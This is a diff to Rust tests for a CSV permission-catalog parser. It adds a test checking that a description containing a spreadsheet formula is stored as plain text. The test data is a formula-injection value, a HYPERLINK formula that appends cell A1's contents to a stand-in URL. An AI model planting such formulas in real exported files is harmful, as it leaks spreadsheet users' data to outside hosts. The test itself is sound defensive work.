@@ -1,4 +1,4 @@
-use super::check;
+use super::{catalog, check};
 
 #[test]
 fn a_heading_that_ends_in_a_no_break_space() {
@@ -110,4 +110,13 @@ error: a tab in `id`
   = help: only a description has line breaks or tabs; remove it
 "#,
     );
+}
+
+/// What a spreadsheet would run is no more than text here.
+#[test]
+fn a_formula() {
+    let formula = r#"=HYPERLINK("https://example.com/?"&A1,"Read messages")"#;
+    let quoted = formula.replace('"', "\"\"");
+    let catalog = catalog(&format!("value,description\nsms.read,\"{quoted}\"\n"));
+    assert_eq!(catalog.scopes[0].description.as_deref(), Some(formula));
 }
